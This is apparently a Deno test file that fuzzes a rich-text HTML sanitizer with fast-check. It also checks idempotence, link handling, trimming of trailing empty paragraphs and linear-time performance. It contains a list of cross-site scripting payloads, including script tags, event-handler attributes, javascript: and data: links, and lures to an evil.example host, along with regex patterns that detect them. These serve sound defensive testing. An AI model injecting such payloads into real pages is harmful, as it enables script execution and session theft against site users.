import fc from "fast-check";
import { assert, assertEquals } from "../../_utils/assert.ts";
import {
  characterCount,
  sanitizeRichText,
  withoutTrailingEmpty,
} from "../../../lib/content/rich_text.ts";

/** Fragments an attacker would mix into rich text. */
const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example"><input name=x></form>',
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  '<div onmouseover="alert(1)">x</div>',
  "<style>body{display:none}</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<base href='https://evil.example/'>",
  "<!--<script>alert(1)</script>-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="a" onclick="b">ok</p>',
  "<b>bold</b>",
  '<a href="https://example.com" target="_blank">ok</a>',
  "<ul><li>one</li></ul>",
  "plain & text < 5",
];

const fragment = fc.oneof(
  fc.constantFrom(...VECTORS),
  fc.string({ maxLength: 20 }),
  fc.constantFrom("<", ">", '"', "'", "=", "&", "<p>", "</p>", "<a ", "href=", "on", "javascript:"),
);
const richText = fc.array(fragment, { maxLength: 12 }).map((parts) => parts.join(""));

/** Text is escaped in the output, so every "<" there opens a real tag: inspect the tags. */
function hasScriptVector(html: string): boolean {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  return tags.some((tag) =>
    /^<\s*\/?\s*(script|iframe|object|embed|style|form|input|meta|base|svg|math|img|noscript)\b/i
      .test(tag) ||
    /\son[a-z]+\s*=/i.test(tag) ||
    /\sstyle\s*=/i.test(tag) ||
    /href\s*=\s*["']?\s*(javascript|vbscript|data)/i.test(tag)
  );
}

Deno.test("sanitizeRichText() removes every script vector (property)", () => {
  fc.assert(
    fc.property(richText, (input) => {
      const out = sanitizeRichText(input);
      assert(!hasScriptVector(out), `${JSON.stringify(input)} → ${JSON.stringify(out)}`);
    }),
    { numRuns: 2000 },
  );
});

Deno.test("sanitizeRichText() is idempotent (property)", () => {
  fc.assert(
    fc.property(richText, (input) => {
      const once = sanitizeRichText(input);
      assertEquals(sanitizeRichText(once), once, JSON.stringify(input));
    }),
    { numRuns: 2000 },
  );
});

Deno.test("sanitizeRichText() keeps the allowed markup", () => {
  assertEquals(
    sanitizeRichText("<p><strong>a</strong> <em>b</em></p>"),
    "<p><strong>a</strong> <em>b</em></p>",
  );
  assertEquals(
    sanitizeRichText('<a href="https://x.example" target="_blank">x</a>'),
    '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
  );
  assertEquals(sanitizeRichText('<a href="/contact">c</a>'), '<a href="/contact">c</a>');
  assertEquals(sanitizeRichText('<a href="mailto:a@b.nl">m</a>'), '<a href="mailto:a@b.nl">m</a>');
});

Deno.test("sanitizeRichText() drops trailing empty paragraphs; empty text is empty", () => {
  assertEquals(sanitizeRichText("<p>a</p><p></p>"), "<p>a</p>");
  assertEquals(sanitizeRichText("<p>a</p><p><br></p>"), "<p>a</p>");
  assertEquals(sanitizeRichText("<p>a</p>\n<p> &nbsp; </p><p><br /></p><p></p>"), "<p>a</p>");
  assertEquals(sanitizeRichText("<p></p>"), "");
  assertEquals(sanitizeRichText("<p><br></p>"), "");
  // Only at the end: a blank line between paragraphs was typed on purpose.
  assertEquals(sanitizeRichText("<p>a</p><p></p><p>b</p>"), "<p>a</p><p></p><p>b</p>");
  assertEquals(sanitizeRichText("<p>a<br></p>"), "<p>a<br /></p>");
  assertEquals(sanitizeRichText("<ul><li><p></p></li></ul>"), "<ul><li><p></p></li></ul>");
  // A long run of empty paragraphs before the text is kept as it is.
  const run = "<p></p>".repeat(25_000);
  assertEquals(sanitizeRichText(run + "<p>x</p>"), run + "<p>x</p>");
});

/** The length of every string a regular expression is run on while `fn` runs. */
function patternInputs(fn: () => void): number[] {
  const exec = RegExp.prototype.exec;
  const lengths: number[] = [];
  RegExp.prototype.exec = function (this: RegExp, input: string) {
    lengths.push(String(input).length);
    return exec.call(this, input);
  };
  try {
    fn();
  } finally {
    RegExp.prototype.exec = exec;
  }
  return lengths;
}

Deno.test("withoutTrailingEmpty() stays linear on a long run of empty paragraphs", () => {
  // Linear: a pattern anchored at the end of the whole run would backtrack over it from every
  // paragraph (quadratic). So the pattern sees one paragraph's content at a time, once per
  // paragraph removed, and string search does the rest.
  const n = 25_000;
  let out = "";
  const inputs = patternInputs(() => out = withoutTrailingEmpty("<p>x</p>" + "<p> </p>".repeat(n)));
  assertEquals(out, "<p>x</p>");
  assertEquals(inputs.length, n + 1, "one look per paragraph");
  assert(inputs.every((length) => length <= 1), `patterns ran on ${Math.max(...inputs)} chars`);
});

Deno.test("characterCount() counts visible characters, not markup", () => {
  assertEquals(characterCount("<p>ab<strong>c</strong></p>"), 3);
  assertEquals(characterCount("<p>a &amp; b</p>"), 5);
  assertEquals(characterCount("<p>😀</p>"), 1);
});
